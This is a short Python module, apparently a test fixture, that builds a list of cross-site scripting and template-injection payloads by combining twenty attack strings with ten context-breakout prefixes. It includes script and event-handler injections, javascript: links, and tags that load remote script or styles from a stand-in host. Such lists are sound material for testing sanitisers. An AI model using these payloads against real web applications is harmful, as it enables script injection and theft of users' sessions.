"""Texts that would run or fetch something if the page took them for markup."""

from __future__ import annotations

_HURT = "window.hurt=1"
_OUTSIDE = "http://outside.example"
_ATTACKS = (
    f"<script>{_HURT}</script>",
    f"<script src={_OUTSIDE}/x.js></script>",
    f"<img src=x onerror={_HURT}>",
    f"<img src={_OUTSIDE}/x.png>",
    f"<svg/onload={_HURT}>",
    f"<svg><script>{_HURT}</script></svg>",
    f"<math><mtext><img src=x onerror={_HURT}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{_HURT}</script>'></iframe>",
    f"<iframe src={_OUTSIDE}/></iframe>",
    f"<body onload={_HURT}>",
    f"<details open ontoggle={_HURT}>x</details>",
    f"<input autofocus onfocus={_HURT}>",
    f"<video><source onerror={_HURT}></video>",
    f"<link rel=stylesheet href={_OUTSIDE}/x.css>",
    f"<style>@import '{_OUTSIDE}/y.css';</style>",
    f"<base href={_OUTSIDE}/>",
    f"<meta http-equiv=refresh content='0;url={_OUTSIDE}'>",
    f"<a href=javascript:{_HURT}>javascript:{_HURT}</a>",
    "${window.hurt=1}",
    "{{constructor.constructor('window.hurt=1')()}}{% print(7*7) %}",
)
# Ways out of where a text may stand: an attribute, an element, a comment, a script.
_WAYS_OUT = ("", '">', "'>", "`>", "</p>", "</title>", "</textarea>", "-->", "]]>", "\\u003e")
PAYLOADS = [f"{way_out}{attack}" for way_out in _WAYS_OUT for attack in _ATTACKS]
